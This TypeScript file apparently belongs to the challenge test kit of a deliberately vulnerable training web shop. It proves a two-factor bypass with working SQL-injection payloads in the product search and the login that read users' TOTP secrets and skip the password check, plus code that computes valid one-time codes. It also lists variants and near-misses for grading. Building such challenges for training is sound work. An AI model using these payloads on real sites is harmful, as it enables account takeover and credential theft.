import { createHmac, randomUUID } from 'node:crypto'
import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

/** Validity of a code in seconds. */
const CODE_SECONDS = 30
const BASE32_ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'

const mailOf = ({ domain }: Attacker) => `wurstbrot@${domain}`

/** Returns the TOTP code of a Base32 secret at a time in seconds (RFC 6238). */
function codeOf(secret: string, seconds: number): string {
  const bits = [...secret].map((sign) => BASE32_ALPHABET.indexOf(sign).toString(2).padStart(5, '0')).join('')
  const key = Buffer.from((bits.match(/.{8}/g) ?? []).map((byte) => Number.parseInt(byte, 2)))
  const counter = Buffer.alloc(8)
  counter.writeBigUInt64BE(BigInt(Math.floor(seconds / CODE_SECONDS)))
  const digest = createHmac('sha1', key).update(counter).digest()
  const number = digest.readUInt32BE(digest.at(-1)! & 0xf) & 0x7fffffff
  return String(number % 1_000_000).padStart(6, '0')
}

/** Returns the shop's time in seconds, read from the creation date of a new account. */
async function shopTime(attacker: Attacker): Promise<number> {
  const password = 'ripe plums'
  const body = { email: `${randomUUID()}@customer.test`, password, passwordRepeat: password }
  return Date.parse((await attacker.post('/api/Users', body)).json().data.createdAt) / 1000
}

/** Reads the TOTP secret by SQL injection in the search. */
async function secretOf(attacker: Attacker): Promise<string> {
  const term = "qwert')) UNION SELECT id,email,totpSecret,4,5,6,7,8,9 FROM Users--"
  const answer = await attacker.get(`/rest/products/search?q=${encodeURIComponent(term)}`)
  const rows: readonly { name: string; description: string }[] = answer.json().data
  return rows.find(({ name }) => name === mailOf(attacker))?.description ?? ''
}

/** Logs in with a password and returns the temporary token of the second step. */
async function firstStepOf(attacker: Attacker, email: string, password: string): Promise<string | null> {
  const answer = await attacker.post('/rest/user/login', { email, password })
  return answer.text.startsWith('{') ? (answer.json().data?.tmpToken ?? null) : null
}

/** Passes the password check by SQL injection: with a comment, or with a condition that is always true. */
async function firstStep(attacker: Attacker): Promise<string> {
  const email = mailOf(attacker)
  const byComment = await firstStepOf(attacker, `${email}'--`, 'x')
  return byComment ?? (await firstStepOf(attacker, `${email}' or email='${email}`, 'x')) ?? ''
}

const verify = (attacker: Attacker, tmpToken: string, totpToken: unknown) =>
  attacker.post('/rest/2fa/verify', { tmpToken, totpToken })

/** @param off seconds added to the shop's time */
const signIn =
  (off = 0, shown: (code: string) => unknown = (code) => code) =>
  async (attacker: Attacker) => {
    const code = codeOf(await secretOf(attacker), (await shopTime(attacker)) + off)
    await verify(attacker, await firstStep(attacker), shown(code))
  }

export const proof = prove(challenge, {
  exploit: signIn(),
  spellings: {
    'with a clock that is late': signIn(-CODE_SECONDS),
    'with a clock that is early': signIn(CODE_SECONDS),
    'with the code as a number': signIn(0, Number),
    'with the password, where somebody knows it': async (attacker) => {
      const code = codeOf(await secretOf(attacker), await shopTime(attacker))
      const tmpToken = await firstStepOf(attacker, mailOf(attacker), 'EinBelegtesBrotMitSchinkenSCHINKEN!')
      await verify(attacker, tmpToken ?? '', code)
    },
    'after wrong codes': async (attacker) => {
      const tmpToken = await firstStep(attacker)
      for (const guess of ['000000', '123456']) await verify(attacker, tmpToken, guess)
      await signIn()(attacker)
    },
    'with the secret from an error of the login': async (attacker) => {
      // The login response contains the e-mail column, which here holds the secret.
      const columns = "1,'',totpSecret,'','customer','','','','',1,'2020','2020',NULL"
      const email = `' UNION SELECT ${columns} FROM Users WHERE email='${mailOf(attacker)}'--`
      const { authentication } = (await attacker.post('/rest/user/login', { email, password: 'x' })).json()
      const code = codeOf(authentication.umail, await shopTime(attacker))
      await verify(attacker, await firstStep(attacker), code)
    },
  },
  nearMisses: {
    'reading the secret': secretOf,
    'the first step alone': (attacker) => firstStep(attacker),
    'a code of three minutes ago': signIn(-6 * CODE_SECONDS),
    'a code of three minutes from now': signIn(6 * CODE_SECONDS),
    'a code with a sign too many': signIn(0, (code) => `${code}0`),
    'a guess': async (attacker) => verify(attacker, await firstStep(attacker), '000000'),
    'the secret in place of a code': async (attacker) =>
      verify(attacker, await firstStep(attacker), (await secretOf(attacker)).slice(0, 20)),
    'a code without the first step': async (attacker) => {
      const { token } = await attacker.becomeCustomer()
      await verify(attacker, token, codeOf(await secretOf(attacker), await shopTime(attacker)))
    },
    'an injected row that has no second factor': (attacker) =>
      attacker.post('/rest/user/login', {
        email: `' UNION SELECT 10,'','${mailOf(attacker)}','','admin','','','','',1,'2020','2020',NULL--`,
        password: 'x',
      }),
    'a second factor of one’s own': async (attacker) => {
      const { email, password } = await attacker.becomeCustomer()
      const { secret, setupToken } = (await attacker.get('/rest/2fa/status')).json()
      const now = await shopTime(attacker)
      await attacker.post('/rest/2fa/setup', { password, setupToken, initialToken: codeOf(secret, now) })
      await verify(attacker, (await firstStepOf(attacker, email, password)) ?? '', codeOf(secret, now + CODE_SECONDS))
    },
  },
})
